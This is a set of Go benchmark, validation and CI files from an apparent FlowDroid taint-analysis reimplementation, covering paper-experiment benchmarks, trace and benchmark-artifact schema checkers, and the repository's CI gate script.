// Package flowdroid_test is the benchmark harness regenerating every
// table and figure of the paper's evaluation (Section 6). Each benchmark
// corresponds to one experiment of DESIGN.md's per-experiment index and
// reports the headline numbers as custom metrics alongside the usual
// time/op:
//
//	E1  BenchmarkTable1DroidBench / BenchmarkTable1AppScan / ...Fortify
//	E2  BenchmarkFigure1DummyMain
//	E3  BenchmarkFigure2Aliasing
//	E4  BenchmarkInsecureBank
//	E5  BenchmarkCorpusPlay
//	E6  BenchmarkCorpusMalware
//	E7  BenchmarkTable2SecuriBench
//	E8  BenchmarkAblations / BenchmarkAPLength
//
// Run with: go test -bench=. -benchmem
package flowdroid_test

import (
	"context"
	"testing"

	"flowdroid/internal/apk"
	"flowdroid/internal/appgen"
	"flowdroid/internal/baseline"
	"flowdroid/internal/callbacks"
	"flowdroid/internal/cfg"
	"flowdroid/internal/core"
	"flowdroid/internal/droidbench"
	"flowdroid/internal/insecurebank"
	"flowdroid/internal/lifecycle"
	"flowdroid/internal/pta"
	"flowdroid/internal/securibench"
	"flowdroid/internal/sourcesink"
	"flowdroid/internal/taint"
	"flowdroid/internal/testapps"
)

// benchSuite runs one analyzer over the full DroidBench suite and reports
// the Table 1 bottom rows as metrics.
func benchSuite(b *testing.B, a droidbench.Analyzer) {
	b.Helper()
	var score droidbench.SuiteScore
	for i := 0; i < b.N; i++ {
		score = droidbench.Score(droidbench.RunSuite(a))
	}
	b.ReportMetric(float64(score.TP), "TP")
	b.ReportMetric(float64(score.FP), "FP")
	b.ReportMetric(float64(score.Missed), "missed")
	b.ReportMetric(100*score.Precision, "precision%")
	b.ReportMetric(100*score.Recall, "recall%")
}

// E1: Table 1, FlowDroid column (expect 26 TP / 4 FP / 2 missed; 86%/93%).
func BenchmarkTable1DroidBench(b *testing.B) { benchSuite(b, droidbench.FlowDroid()) }

// E1: Table 1, AppScan-like column (expect ≈14 TP, recall ≈50%).
func BenchmarkTable1AppScan(b *testing.B) { benchSuite(b, baseline.AppScanLike()) }

// E1: Table 1, Fortify-like column (expect ≈17 TP, recall ≈61%).
func BenchmarkTable1Fortify(b *testing.B) { benchSuite(b, baseline.FortifyLike()) }

// E2: Figure 1 — dummy-main generation for the Listing 1 app.
func BenchmarkFigure1DummyMain(b *testing.B) {
	for i := 0; i < b.N; i++ {
		app, err := apk.LoadFiles(testapps.LeakageApp)
		if err != nil {
			b.Fatal(err)
		}
		cbs := callbacks.Discover(context.Background(), app)
		if _, err := lifecycle.Generate(app, cbs, lifecycle.DefaultOptions()); err != nil {
			b.Fatal(err)
		}
	}
}

// figure2Src is the deep-aliasing example the bidirectional solvers must
// resolve (Figure 2 of the paper).
const figure2Src = `
class Src {
  static method secret(): java.lang.String;
}
class Snk {
  static method leak(x: java.lang.String): void;
}
class A {
  field g: Data
  method init(): void {
    return
  }
}
class Data {
  field f: java.lang.String
  method init(): void {
    return
  }
}
class Main {
  static method foo(z: A): void {
    x = z.g
    w = Src.secret()
    x.f = w
  }
  static method main(): void {
    a = new A()
    d = new Data()
    a.g = d
    b = a.g
    Main.foo(a)
    t = b.f
    Snk.leak(t)
  }
}
`

// E3: Figure 2 — the on-demand backward alias analysis on the paper's
// deep-aliasing example (expect exactly 1 leak).
func BenchmarkFigure2Aliasing(b *testing.B) {
	prog, err := core.ParseJava(figure2Src, "fig2.ir")
	if err != nil {
		b.Fatal(err)
	}
	entry := prog.Class("Main").Method("main", 0)
	graph := pta.Build(context.Background(), prog, entry).Graph
	icfg := cfg.NewICFG(prog, graph)
	mgr, err := sourcesink.Parse(prog,
		"source <Src: secret/0> -> return\nsink <Snk: leak/1> -> arg0\n")
	if err != nil {
		b.Fatal(err)
	}
	var leaks int
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res := taint.Analyze(context.Background(), icfg, mgr, taint.DefaultConfig(), entry)
		leaks = len(res.DistinctSourceSinkPairs())
	}
	b.ReportMetric(float64(leaks), "leaks")
}

// E4: RQ2 — InsecureBank, expect 7 leaks / 0 FP / 0 FN. The paper's
// wall-clock (31 s on a 2010 laptop against real bytecode) translates to
// the time/op reported here against the IR model.
func BenchmarkInsecureBank(b *testing.B) {
	var leaks int
	for i := 0; i < b.N; i++ {
		res, err := core.AnalyzeFiles(context.Background(), insecurebank.Files, core.DefaultOptions())
		if err != nil {
			b.Fatal(err)
		}
		leaks = len(res.Leaks())
	}
	b.ReportMetric(float64(leaks), "leaks")
}

// E5: RQ3a — Play-profile corpus (50 apps per iteration; scale with
// cmd/corpus -n 500 for the full population). Expect most apps leaking
// identifiers into logs/preferences and zero SMS exfiltration.
func BenchmarkCorpusPlay(b *testing.B) {
	var stats appgen.CorpusStats
	for i := 0; i < b.N; i++ {
		var err error
		stats, err = appgen.RunCorpus(appgen.Play, 50, 1)
		if err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(stats.AvgLeaksPerApp(), "leaks/app")
	b.ReportMetric(float64(stats.AppsWithLeaks)/float64(stats.Apps)*100, "apps-leaking%")
	b.ReportMetric(float64(stats.AvgTime().Microseconds()), "µs/app")
}

// E6: RQ3b — malware-profile corpus (100 apps per iteration; scale with
// cmd/corpus -n 1000). Expect ≈1.85 leaks per app, SMS-dominated.
func BenchmarkCorpusMalware(b *testing.B) {
	var stats appgen.CorpusStats
	for i := 0; i < b.N; i++ {
		var err error
		stats, err = appgen.RunCorpus(appgen.Malware, 100, 2)
		if err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(stats.AvgLeaksPerApp(), "leaks/app")
	b.ReportMetric(float64(stats.AvgTime().Microseconds()), "µs/app")
}

// E7: Table 2 — SecuriBench Micro (expect 117/121 TP, 9 FP).
func BenchmarkTable2SecuriBench(b *testing.B) {
	var tp, exp, fp int
	for i := 0; i < b.N; i++ {
		results, err := securibench.RunSuite()
		if err != nil {
			b.Fatal(err)
		}
		tp, exp, fp = 0, 0, 0
		for _, r := range results {
			tp += r.TP
			exp += r.Expected
			fp += r.FP
		}
	}
	b.ReportMetric(float64(tp), "TP")
	b.ReportMetric(float64(exp), "expected")
	b.ReportMetric(float64(fp), "FP")
}

// E8: ablations — each design choice of DESIGN.md switched off, swept
// over DroidBench. The recall/precision metrics show what each feature
// buys.
func BenchmarkAblations(b *testing.B) {
	for _, ab := range baseline.Ablations() {
		ab := ab
		b.Run(ab.Name, func(b *testing.B) {
			benchSuite(b, baseline.AblationAnalyzer(ab))
		})
	}
}

// E8: the access-path length sweep of the paper's "tradeoffs in
// access-path lengths" discussion: shorter paths are faster but lose
// precision.
func BenchmarkAPLength(b *testing.B) {
	for _, k := range []int{1, 2, 3, 5, 8} {
		k := k
		b.Run(benchName(k), func(b *testing.B) {
			benchSuite(b, baseline.APLengthAnalyzer(k))
		})
	}
}

func benchName(k int) string {
	return "k=" + string(rune('0'+k))
}

// BenchmarkPipelineStages separates setup (parsing, callbacks, dummy
// main, points-to) from the taint analysis itself on the RQ2 app.
func BenchmarkPipelineStages(b *testing.B) {
	b.Run("setup", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			app, err := apk.LoadFiles(insecurebank.Files)
			if err != nil {
				b.Fatal(err)
			}
			cbs := callbacks.Discover(context.Background(), app)
			entry, err := lifecycle.Generate(app, cbs, lifecycle.DefaultOptions())
			if err != nil {
				b.Fatal(err)
			}
			pta.Build(context.Background(), app.Program, entry)
		}
	})
	b.Run("full", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			if _, err := core.AnalyzeFiles(context.Background(), insecurebank.Files, core.DefaultOptions()); err != nil {
				b.Fatal(err)
			}
		}
	})
}
