// Command checktrace validates a JSONL span trace produced by the
// -trace flag of cmd/flowdroid and cmd/corpus (internal/metrics.Trace),
// so CI catches schema drift between the emitter and its consumers.
//
// Checks, per file:
//
//   - every line is one JSON object decoding exactly into metrics.Event
//     (unknown fields rejected) and passing metrics.ValidateTraceEvent;
//   - sequence numbers are unique and form the contiguous range 1..N —
//     a gap means an event was dropped on the floor;
//   - per span name, in seq order, begins and ends balance like
//     brackets: the running open-span count never goes negative and
//     ends at zero.
//
// File order is not required to be seq order: concurrent spans take
// their sequence number before entering the sink's write lock.
//
// Usage: go run ./scripts/checktrace trace.jsonl [more.jsonl ...]
package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"sort"

	"flowdroid/internal/metrics"
)

func fail(format string, args ...any) {
	fmt.Fprintf(os.Stderr, "checktrace: "+format+"\n", args...)
	os.Exit(1)
}

func main() {
	if len(os.Args) < 2 {
		fail("usage: checktrace <trace.jsonl> ...")
	}
	for _, path := range os.Args[1:] {
		check(path)
	}
}

func check(path string) {
	f, err := os.Open(path)
	if err != nil {
		fail("%v", err)
	}
	defer f.Close()

	var events []metrics.Event
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 0, 1<<16), 1<<20)
	lineNo := 0
	for sc.Scan() {
		lineNo++
		line := bytes.TrimSpace(sc.Bytes())
		if len(line) == 0 {
			continue
		}
		var e metrics.Event
		dec := json.NewDecoder(bytes.NewReader(line))
		dec.DisallowUnknownFields()
		if err := dec.Decode(&e); err != nil {
			fail("%s:%d: %v", path, lineNo, err)
		}
		if err := metrics.ValidateTraceEvent(e); err != nil {
			fail("%s:%d: %v", path, lineNo, err)
		}
		events = append(events, e)
	}
	if err := sc.Err(); err != nil {
		fail("%s: %v", path, err)
	}
	if len(events) == 0 {
		fail("%s: empty trace", path)
	}

	sort.Slice(events, func(i, j int) bool { return events[i].Seq < events[j].Seq })
	for i, e := range events {
		if want := int64(i + 1); e.Seq != want {
			fail("%s: sequence numbers are not the contiguous range 1..%d: position %d holds seq %d",
				path, len(events), i+1, e.Seq)
		}
	}

	open := map[string]int{}
	for _, e := range events {
		if e.Ev == "B" {
			open[e.Name]++
			continue
		}
		open[e.Name]--
		if open[e.Name] < 0 {
			fail("%s: span %q ends (seq %d) before any matching begin", path, e.Name, e.Seq)
		}
	}
	names := make([]string, 0, len(open))
	for name, n := range open {
		if n != 0 {
			fail("%s: span %q left %d begin(s) without an end", path, name, n)
		}
		names = append(names, name)
	}
	sort.Strings(names)
	fmt.Printf("checktrace: %s OK (%d events, %d span names)\n", path, len(events), len(names))
}
