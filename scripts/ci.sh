#!/bin/sh
# ci.sh — the repository's verification gate.
#
# Runs the static checks, builds every package, and runs the full test
# suite under the race detector (the parallel IFDS solver is the main
# concurrency surface). Any failure fails the gate.
set -eu

cd "$(dirname "$0")/.."

echo "==> go vet ./..."
go vet ./...

echo "==> go build ./..."
go build ./...

echo "==> go test -race ./..."
go test -race ./...

echo "==> go test -race ./internal/taint/... (parallel taint solver)"
go test -race ./internal/taint/...

echo "==> bench smoke (one-shot, compile + run sanity; emits BENCH_taint.json, BENCH_strings.json, BENCH_metrics.json, BENCH_query.json, BENCH_incr.json and BENCH_reflect.json)"
go test -bench 'Smoke|QueryTaint|IncrementalTaint|ReflectionTaint' -benchtime=1x -run '^$' .

echo "==> checkbench (BENCH_taint.json + BENCH_strings.json + BENCH_metrics.json + BENCH_query.json + BENCH_incr.json + BENCH_reflect.json schemas, allocs/op ratchet)"
go run ./scripts/checkbench BENCH_taint.json BENCH_strings.json BENCH_metrics.json BENCH_query.json BENCH_incr.json BENCH_reflect.json

echo "==> summary store smoke (round-trip + deliberately corrupted entries degrade to misses)"
go test -run 'TestWarmRunMatchesColdByteForByte|TestCorrupt' ./internal/summarystore/

echo "==> irlint -fixtures (IR verifier over every shipped program) + checklint"
lint_file=$(mktemp)
go run ./cmd/irlint -fixtures -json > "$lint_file"
go run ./scripts/checklint "$lint_file"
rm -f "$lint_file"

echo "==> fuzz smoke (parse-then-verify, seeded with the defect-injector corpus)"
go test -fuzz FuzzParseAndVerify -fuzztime 10s -run '^$' ./internal/irlint/

echo "==> trace smoke (flowdroid -insecurebank -trace) + checktrace"
trace_file=$(mktemp)
# InsecureBank finds leaks, so exit 1 is the expected outcome here; any
# other code is a real failure.
st=0
go run ./cmd/flowdroid -insecurebank -trace "$trace_file" >/dev/null || st=$?
if [ "$st" -ne 1 ]; then
    echo "flowdroid -insecurebank exited $st, want 1 (leaks found)" >&2
    rm -f "$trace_file"
    exit 1
fi
go run ./scripts/checktrace "$trace_file"
rm -f "$trace_file"

echo "==> checkhealth (flowdroidd submit/poll/result, /healthz, /metrics, SIGTERM drain)"
go run ./scripts/checkhealth

echo "==> service soak smoke (bounded queue, fair completion, warm resubmission, drain; race-enabled)"
go test -race -run 'TestServiceSoak|TestServiceWarm' ./internal/service/

echo "CI OK"
