#!/bin/sh
# ci.sh — the repository's verification gate.
#
# Runs the static checks, builds every package, and runs the full test
# suite under the race detector (the parallel IFDS solver is the main
# concurrency surface). Any failure fails the gate.
set -eu

cd "$(dirname "$0")/.."

echo "==> go vet ./..."
go vet ./...

echo "==> go build ./..."
go build ./...

echo "==> go test -race ./..."
go test -race ./...

echo "==> go test -race ./internal/taint/... (parallel taint solver)"
go test -race ./internal/taint/...

echo "==> bench smoke (one-shot, compile + run sanity; emits BENCH_taint.json)"
go test -bench Smoke -benchtime=1x -run '^$' .

echo "==> checkbench (BENCH_taint.json schema)"
go run ./scripts/checkbench BENCH_taint.json

echo "CI OK"
