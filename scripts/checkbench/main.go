// Command checkbench validates the schema of the BENCH_*.json artifacts
// the smoke benchmarks produce, so CI fails loudly when a bench stops
// persisting its trajectory (the failure mode that motivated the
// artifacts) or emits a malformed record.
//
// The artifact kind is dispatched on the "bench" field:
//
//	BenchmarkSmokeTaint                       → parallel-solver speedup report (with allocs/op ratchet)
//	BenchmarkSmokeTaint/StringCarriers        → string-carrier on/off comparison report
//	BenchmarkSmokeMetrics                     → observability-overhead report
//	BenchmarkQueryTaint                       → demand-driven query savings report
//	BenchmarkIncrementalTaint                 → warm re-analysis (summary store) report
//	BenchmarkReflectionTaint                  → reflection-resolution recovery report
//
// Usage: go run ./scripts/checkbench BENCH_taint.json [BENCH_strings.json BENCH_metrics.json BENCH_query.json BENCH_incr.json BENCH_reflect.json ...]
package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
)

type run struct {
	Workers      int     `json:"workers"`
	WallMS       float64 `json:"wall_ms"`
	Propagations int     `json:"propagations"`
	Leaks        int     `json:"leaks"`
	Allocs       uint64  `json:"allocs"`
}

type taintReport struct {
	Bench      string  `json:"bench"`
	Profile    string  `json:"profile"`
	Apps       int     `json:"apps"`
	GOMAXPROCS int     `json:"gomaxprocs"`
	NumCPU     int     `json:"num_cpu"`
	Runs       []run   `json:"runs"`
	Speedup    float64 `json:"speedup"`
	Note       string  `json:"note"`
}

type stringsMode struct {
	Carriers          bool    `json:"carriers"`
	WallMS            float64 `json:"wall_ms"`
	AliasQueries      int     `json:"alias_queries"`
	GatedAliasQueries int     `json:"gated_alias_queries"`
	Allocs            uint64  `json:"allocs"`
	Leaks             int     `json:"leaks"`
}

type stringsReport struct {
	Bench            string      `json:"bench"`
	Profile          string      `json:"profile"`
	Apps             int         `json:"apps"`
	Workers          int         `json:"workers"`
	GOMAXPROCS       int         `json:"gomaxprocs"`
	NumCPU           int         `json:"num_cpu"`
	On               stringsMode `json:"on"`
	Off              stringsMode `json:"off"`
	AliasReduction   float64     `json:"alias_reduction"`
	AllocReduction   float64     `json:"alloc_reduction"`
	ReportsIdentical bool        `json:"reports_identical"`
	Note             string      `json:"note"`
}

type queryRun struct {
	WallMS            float64 `json:"wall_ms"`
	Propagations      int     `json:"propagations"`
	Leaks             int     `json:"leaks"`
	ConeMethods       int     `json:"cone_methods"`
	SkippedComponents int     `json:"skipped_components"`
}

type queryReport struct {
	Bench                string   `json:"bench"`
	Profile              string   `json:"profile"`
	Apps                 int      `json:"apps"`
	GOMAXPROCS           int      `json:"gomaxprocs"`
	NumCPU               int      `json:"num_cpu"`
	Query                []string `json:"query"`
	Whole                queryRun `json:"whole"`
	QueryRun             queryRun `json:"query_run"`
	PropagationReduction float64  `json:"propagation_reduction"`
	Note                 string   `json:"note"`
}

type incrRun struct {
	WallMS          float64 `json:"wall_ms"`
	Propagations    int     `json:"propagations"`
	Leaks           int     `json:"leaks"`
	SummaryHits     int     `json:"summary_hits"`
	SummaryMisses   int     `json:"summary_misses"`
	Invalidated     int     `json:"invalidated"`
	MethodsReused   int     `json:"methods_reused"`
	MethodsExplored int     `json:"methods_explored"`
	Persisted       int     `json:"persisted"`
}

type incrReport struct {
	Bench            string  `json:"bench"`
	Profile          string  `json:"profile"`
	Apps             int     `json:"apps"`
	MutatedFraction  float64 `json:"mutated_fraction"`
	MutatedMethods   int     `json:"mutated_methods"`
	GOMAXPROCS       int     `json:"gomaxprocs"`
	NumCPU           int     `json:"num_cpu"`
	Cold             incrRun `json:"cold"`
	Warm             incrRun `json:"warm"`
	ReuseRate        float64 `json:"reuse_rate"`
	ReportsIdentical bool    `json:"reports_identical"`
	Note             string  `json:"note"`
}

type reflectMode struct {
	Reflection      bool    `json:"reflection"`
	WallMS          float64 `json:"wall_ms"`
	Leaks           int     `json:"leaks"`
	ResolvedSites   int     `json:"resolved_sites"`
	UnresolvedSites int     `json:"unresolved_sites"`
}

type reflectReport struct {
	Bench           string      `json:"bench"`
	Profile         string      `json:"profile"`
	Apps            int         `json:"apps"`
	GOMAXPROCS      int         `json:"gomaxprocs"`
	NumCPU          int         `json:"num_cpu"`
	InjectedLeaks   int         `json:"injected_leaks"`
	ReflectiveLeaks int         `json:"reflective_leaks"`
	DynamicChains   int         `json:"dynamic_chains"`
	On              reflectMode `json:"on"`
	Off             reflectMode `json:"off"`
	RecoveredLeaks  int         `json:"recovered_leaks"`
	OffUnchanged    bool        `json:"off_reports_unchanged"`
	Note            string      `json:"note"`
}

type metricsReport struct {
	Bench             string  `json:"bench"`
	Profile           string  `json:"profile"`
	Apps              int     `json:"apps"`
	GOMAXPROCS        int     `json:"gomaxprocs"`
	NumCPU            int     `json:"num_cpu"`
	OffWallMS         float64 `json:"off_wall_ms"`
	OnWallMS          float64 `json:"on_wall_ms"`
	OverheadRatio     float64 `json:"overhead_ratio"`
	DeterministicKeys int     `json:"deterministic_keys"`
	TraceEvents       int     `json:"trace_events"`
	Note              string  `json:"note"`
}

func fail(format string, args ...any) {
	fmt.Fprintf(os.Stderr, "checkbench: "+format+"\n", args...)
	os.Exit(1)
}

// strict decodes data into v rejecting unknown fields, so schema drift
// between the bench and this checker is an error, not a silent skip.
func strict(path string, data []byte, v any) {
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.DisallowUnknownFields()
	if err := dec.Decode(v); err != nil {
		fail("%s: %v", path, err)
	}
}

func main() {
	if len(os.Args) < 2 {
		fail("usage: checkbench <BENCH_*.json> ...")
	}
	for _, path := range os.Args[1:] {
		check(path)
	}
}

func check(path string) {
	data, err := os.ReadFile(path)
	if err != nil {
		fail("%v", err)
	}
	var kind struct {
		Bench string `json:"bench"`
	}
	if err := json.Unmarshal(data, &kind); err != nil {
		fail("%s: %v", path, err)
	}
	switch kind.Bench {
	case "BenchmarkSmokeTaint":
		checkTaint(path, data)
	case "BenchmarkSmokeTaint/StringCarriers":
		checkStrings(path, data)
	case "BenchmarkSmokeMetrics":
		checkMetrics(path, data)
	case "BenchmarkQueryTaint":
		checkQuery(path, data)
	case "BenchmarkIncrementalTaint":
		checkIncr(path, data)
	case "BenchmarkReflectionTaint":
		checkReflect(path, data)
	default:
		fail("%s: unknown bench %q", path, kind.Bench)
	}
}

// taintAllocsCeiling ratchets the solver's memory churn: the sequential
// bench-corpus pass measures ~1.04M heap allocations after the solver
// allocation diet (interned singleton out-slices, binary access-path
// interner keys, pre-sized worklists). A run past ~15% headroom means the
// diet regressed; raise this only with a measured justification.
const taintAllocsCeiling = 1_200_000

func checkTaint(path string, data []byte) {
	var r taintReport
	strict(path, data, &r)
	if r.Profile == "" {
		fail("%s: profile missing", path)
	}
	if r.Apps <= 0 || r.GOMAXPROCS <= 0 || r.NumCPU <= 0 {
		fail("%s: apps/gomaxprocs/num_cpu must be positive (got %d/%d/%d)", path, r.Apps, r.GOMAXPROCS, r.NumCPU)
	}
	if len(r.Runs) < 2 {
		fail("%s: want at least a sequential and a parallel run, got %d", path, len(r.Runs))
	}
	workers := map[int]bool{}
	for i, ru := range r.Runs {
		if ru.Workers <= 0 || workers[ru.Workers] {
			fail("%s: run %d: invalid or duplicate worker count %d", path, i, ru.Workers)
		}
		workers[ru.Workers] = true
		if ru.WallMS <= 0 {
			fail("%s: run %d (workers=%d): wall_ms must be positive", path, i, ru.Workers)
		}
		if ru.Propagations <= 0 {
			fail("%s: run %d (workers=%d): propagations must be positive", path, i, ru.Workers)
		}
		if ru.Allocs == 0 {
			fail("%s: run %d (workers=%d): allocs missing or zero — the bench stopped recording memory churn", path, i, ru.Workers)
		}
		if ru.Allocs > taintAllocsCeiling {
			fail("%s: run %d (workers=%d): %d allocs exceeds the %d ratchet — the solver allocation diet regressed",
				path, i, ru.Workers, ru.Allocs, taintAllocsCeiling)
		}
		if ru.Propagations != r.Runs[0].Propagations || ru.Leaks != r.Runs[0].Leaks {
			fail("%s: run %d (workers=%d): propagations/leaks differ across worker counts (%d/%d vs %d/%d) — the solver lost its schedule-independence",
				path, i, ru.Workers, ru.Propagations, ru.Leaks, r.Runs[0].Propagations, r.Runs[0].Leaks)
		}
	}
	if !workers[1] {
		fail("%s: no sequential (workers=1) baseline run", path)
	}
	if r.Speedup <= 0 {
		fail("%s: speedup must be positive, got %v", path, r.Speedup)
	}
	if r.Speedup < 1.5 && r.Note == "" {
		fail("%s: speedup %.2fx is below 1.5x and no note documents why", path, r.Speedup)
	}
	fmt.Printf("checkbench: %s OK (%d runs, speedup %.2fx)\n", path, len(r.Runs), r.Speedup)
}

func checkStrings(path string, data []byte) {
	var r stringsReport
	strict(path, data, &r)
	if r.Profile == "" {
		fail("%s: profile missing", path)
	}
	if r.Apps <= 0 || r.Workers <= 0 || r.GOMAXPROCS <= 0 || r.NumCPU <= 0 {
		fail("%s: apps/workers/gomaxprocs/num_cpu must be positive (got %d/%d/%d/%d)",
			path, r.Apps, r.Workers, r.GOMAXPROCS, r.NumCPU)
	}
	if !r.On.Carriers || r.Off.Carriers {
		fail("%s: mode flags inverted (on.carriers=%v, off.carriers=%v)", path, r.On.Carriers, r.Off.Carriers)
	}
	if r.On.WallMS <= 0 || r.Off.WallMS <= 0 {
		fail("%s: wall times must be positive (got %v/%v)", path, r.On.WallMS, r.Off.WallMS)
	}
	if r.On.Allocs == 0 || r.Off.Allocs == 0 {
		fail("%s: allocs missing — the bench stopped recording memory churn", path)
	}
	// The gate's reason to exist: with carriers on it must prove and skip
	// real receiver alias searches, strictly reducing backward queries.
	if r.On.GatedAliasQueries <= 0 {
		fail("%s: carriers-on pass gated no alias searches — the fast path never fired", path)
	}
	if r.Off.GatedAliasQueries != 0 {
		fail("%s: carriers-off pass reports %d gated queries, want 0", path, r.Off.GatedAliasQueries)
	}
	if r.Off.AliasQueries <= 0 {
		fail("%s: carriers-off pass ran no alias searches — the corpus stopped exercising builders", path)
	}
	if r.On.AliasQueries >= r.Off.AliasQueries {
		fail("%s: carriers-on alias queries (%d) not strictly below carriers-off (%d)",
			path, r.On.AliasQueries, r.Off.AliasQueries)
	}
	if r.AliasReduction <= 0 || r.AliasReduction > 1 {
		fail("%s: alias_reduction = %v, want in (0,1]", path, r.AliasReduction)
	}
	// The fast path must never cost memory: allow 2% cross-pass noise,
	// fail on anything beyond it. (The diet's absolute win is ratcheted
	// separately via taintAllocsCeiling.)
	if float64(r.On.Allocs) > float64(r.Off.Allocs)*1.02 {
		fail("%s: carriers-on allocs (%d) exceed carriers-off (%d) by more than 2%%",
			path, r.On.Allocs, r.Off.Allocs)
	}
	// The precision contract: same leaks, byte-identical reports.
	if r.On.Leaks != r.Off.Leaks {
		fail("%s: leak counts differ across modes (%d vs %d)", path, r.On.Leaks, r.Off.Leaks)
	}
	if !r.ReportsIdentical {
		fail("%s: canonical reports were not byte-identical across carrier modes", path)
	}
	if r.Note == "" {
		fail("%s: note missing", path)
	}
	fmt.Printf("checkbench: %s OK (%d/%d alias searches gated, alloc delta %+.2f%%, reports identical)\n",
		path, r.On.GatedAliasQueries, r.Off.AliasQueries, -100*r.AllocReduction)
}

func checkQuery(path string, data []byte) {
	var r queryReport
	strict(path, data, &r)
	if r.Profile == "" {
		fail("%s: profile missing", path)
	}
	if r.Apps <= 0 || r.GOMAXPROCS <= 0 || r.NumCPU <= 0 {
		fail("%s: apps/gomaxprocs/num_cpu must be positive (got %d/%d/%d)", path, r.Apps, r.GOMAXPROCS, r.NumCPU)
	}
	if len(r.Query) == 0 {
		fail("%s: query selector list is empty", path)
	}
	if r.Whole.WallMS <= 0 || r.QueryRun.WallMS <= 0 {
		fail("%s: wall times must be positive (got %v/%v)", path, r.Whole.WallMS, r.QueryRun.WallMS)
	}
	if r.Whole.Propagations <= 0 {
		fail("%s: whole-program propagations must be positive", path)
	}
	// The demand-driven mode's reason to exist: a single-sink query must
	// do strictly less solver work than the whole-program run.
	if r.QueryRun.Propagations >= r.Whole.Propagations {
		fail("%s: query propagations (%d) not strictly below whole-program (%d) — the cone pruned nothing",
			path, r.QueryRun.Propagations, r.Whole.Propagations)
	}
	if r.QueryRun.ConeMethods <= 0 {
		fail("%s: cone_methods must be positive in query mode", path)
	}
	if r.Whole.ConeMethods != 0 || r.Whole.SkippedComponents != 0 {
		fail("%s: whole-program run reports cone counters (%d/%d), want zero",
			path, r.Whole.ConeMethods, r.Whole.SkippedComponents)
	}
	if r.PropagationReduction <= 0 || r.PropagationReduction >= 1 {
		fail("%s: propagation_reduction = %v, want in (0,1)", path, r.PropagationReduction)
	}
	if r.Note == "" {
		fail("%s: note missing", path)
	}
	fmt.Printf("checkbench: %s OK (query %v saved %.0f%% propagations, %d components skipped)\n",
		path, r.Query, 100*r.PropagationReduction, r.QueryRun.SkippedComponents)
}

func checkIncr(path string, data []byte) {
	var r incrReport
	strict(path, data, &r)
	if r.Profile == "" {
		fail("%s: profile missing", path)
	}
	if r.Apps <= 0 || r.GOMAXPROCS <= 0 || r.NumCPU <= 0 {
		fail("%s: apps/gomaxprocs/num_cpu must be positive (got %d/%d/%d)", path, r.Apps, r.GOMAXPROCS, r.NumCPU)
	}
	if r.MutatedFraction <= 0 || r.MutatedFraction >= 1 {
		fail("%s: mutated_fraction = %v, want in (0,1)", path, r.MutatedFraction)
	}
	if r.MutatedMethods <= 0 {
		fail("%s: mutated_methods must be positive — the update stream changed nothing", path)
	}
	if r.Cold.WallMS <= 0 || r.Warm.WallMS <= 0 {
		fail("%s: wall times must be positive (got %v/%v)", path, r.Cold.WallMS, r.Warm.WallMS)
	}
	if r.Cold.SummaryHits != 0 || r.Cold.Persisted <= 0 {
		fail("%s: cold run must persist without hits (hits=%d, persisted=%d)", path, r.Cold.SummaryHits, r.Cold.Persisted)
	}
	if r.Warm.SummaryHits <= 0 {
		fail("%s: warm run hit no stored summaries", path)
	}
	if r.Warm.Invalidated <= 0 {
		fail("%s: warm run invalidated nothing — the update stream never touched live code", path)
	}
	// The store's reason to exist: at 2% churn the warm run must reuse at
	// least 90% of the analyzable methods.
	if r.ReuseRate < 0.9 {
		fail("%s: reuse_rate %.3f below the 0.9 floor", path, r.ReuseRate)
	}
	if r.ReuseRate > 1 {
		fail("%s: reuse_rate %v exceeds 1", path, r.ReuseRate)
	}
	// The store's safety contract: warm results indistinguishable from a
	// cold re-analysis of the updated corpus.
	if !r.ReportsIdentical {
		fail("%s: warm reports were not byte-identical to the cold run", path)
	}
	if r.Note == "" {
		fail("%s: note missing", path)
	}
	fmt.Printf("checkbench: %s OK (reuse %.1f%%, %d hits, %d invalidated, reports identical)\n",
		path, 100*r.ReuseRate, r.Warm.SummaryHits, r.Warm.Invalidated)
}

func checkReflect(path string, data []byte) {
	var r reflectReport
	strict(path, data, &r)
	if r.Profile == "" {
		fail("%s: profile missing", path)
	}
	if r.Apps <= 0 || r.GOMAXPROCS <= 0 || r.NumCPU <= 0 {
		fail("%s: apps/gomaxprocs/num_cpu must be positive (got %d/%d/%d)", path, r.Apps, r.GOMAXPROCS, r.NumCPU)
	}
	if !r.On.Reflection || r.Off.Reflection {
		fail("%s: mode flags inverted (on.reflection=%v, off.reflection=%v)", path, r.On.Reflection, r.Off.Reflection)
	}
	if r.On.WallMS <= 0 || r.Off.WallMS <= 0 {
		fail("%s: wall times must be positive (got %v/%v)", path, r.On.WallMS, r.Off.WallMS)
	}
	// The pass's reason to exist: the corpus must contain reflective
	// leaks and on-mode must recover every one of them.
	if r.ReflectiveLeaks <= 0 {
		fail("%s: corpus injected no reflective leaks — the bench stopped exercising resolution", path)
	}
	if r.On.Leaks != r.InjectedLeaks {
		fail("%s: reflection-on found %d leaks, injected %d", path, r.On.Leaks, r.InjectedLeaks)
	}
	if r.Off.Leaks != r.InjectedLeaks-r.ReflectiveLeaks {
		fail("%s: reflection-off found %d leaks, want exactly the %d non-reflective ones",
			path, r.Off.Leaks, r.InjectedLeaks-r.ReflectiveLeaks)
	}
	if r.RecoveredLeaks != r.ReflectiveLeaks {
		fail("%s: recovered_leaks (%d) != reflective_leaks (%d)", path, r.RecoveredLeaks, r.ReflectiveLeaks)
	}
	if r.On.ResolvedSites <= 0 {
		fail("%s: reflection-on resolved no sites", path)
	}
	// The soundness contract: genuinely dynamic chains must be present
	// and accounted for, not silently dropped.
	if r.DynamicChains <= 0 {
		fail("%s: corpus has no dynamic chains — the soundness-report path went unexercised", path)
	}
	if r.On.UnresolvedSites <= 0 {
		fail("%s: dynamic chains present but no unresolved sites reported", path)
	}
	// Off-mode must be the pre-reflection analyzer exactly: no counters,
	// and byte-identical reports wherever there is no reflective surface.
	if r.Off.ResolvedSites != 0 || r.Off.UnresolvedSites != 0 {
		fail("%s: reflection-off reports resolution counters (%d/%d), want zero",
